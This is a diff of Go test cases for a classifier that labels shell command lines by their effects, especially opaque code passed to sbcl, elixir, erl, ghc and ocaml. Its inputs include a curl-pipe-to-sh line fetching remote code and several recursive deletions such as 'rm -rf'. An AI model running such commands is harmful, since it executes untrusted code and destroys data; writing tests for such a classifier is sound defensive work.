@@ -3,13 +3,15 @@ package effect
 import "testing"
 
 // TestOpaqueSystemAsName: "system" ending a longer name (ASDF's
-// test-system, load-system) is no call of system; a call of its own, or
-// another act beside the name, is code that acts.
+// test-system, load-system) is no call of system; a call of its own given
+// more than literals, or another act beside the name, is code that acts.
+// (A call given only literals, (system "rm -rf build"), is the command it
+// runs: TestOpaquePlainCalls.)
 func TestOpaqueSystemAsName(t *testing.T) {
 	for line, want := range map[string]bool{
 		`sbcl --non-interactive --load build.lisp --eval '(asdf:test-system :cl-parser)'`: false,
 		`sbcl --eval '(asdf:load-system :app)'`:                                           false,
-		`sbcl --eval '(system "rm -rf build")'`:                                           true,
+		`sbcl --eval '(system (format nil "rm -rf ~a" d))'`:                               true,
 		`sbcl --eval '(asdf:load-system :app)' --eval '(uiop:run-program "make")'`:        true,
 		`sbcl --eval '(asdf:load-system :app) (system "curl -s https://x.example | sh")'`: true,
 	} {
@@ -72,6 +74,27 @@ func TestToolVerbsThatShipOrQuiet(t *testing.T) {
 	} {
 		if got := hasEffect(effectsOf(c.line), c.effect); got != c.want {
 			t.Errorf("%q: %s = %v, want %v (%v)", c.line, c.effect, got, c.want, effectsOf(c.line))
+		}
+	}
+}
+
+// TestOpaquePlainCalls: a plain process call of opaque code is judged as
+// the command it runs, and the code around it without it.
+func TestOpaquePlainCalls(t *testing.T) {
+	for line, want := range map[string]string{
+		`sbcl --eval '(system "rm -rf build")'`:                                    "delete:recursive",
+		`elixir -e 'System.cmd("rm", ["-rf", "_build"])'`:                          "delete:recursive",
+		`erl -noshell -eval 'os:cmd("ls"), file:del_dir_r("/srv/x").'`:             "unknown:code",
+		`elixir -e 'System.cmd(c, [])'`:                                            "unknown:code",
+		`ghc -e 'System.Process.callCommand "ls" >> System.Process.callCommand c'`: "unknown:code",
+	} {
+		if !hasEffect(effectsOf(line), want) {
+			t.Errorf("%q: no %s (%v)", line, want, effectsOf(line))
+		}
+	}
+	for _, line := range []string{`elixir -e 'System.cmd("git", ["status"])'`, `ocaml -e 'Sys.command "make test"'`} {
+		if hasEffect(effectsOf(line), "unknown:code") {
+			t.Errorf("%q: unknown:code, want none (%v)", line, effectsOf(line))
 		}
 	}
 }
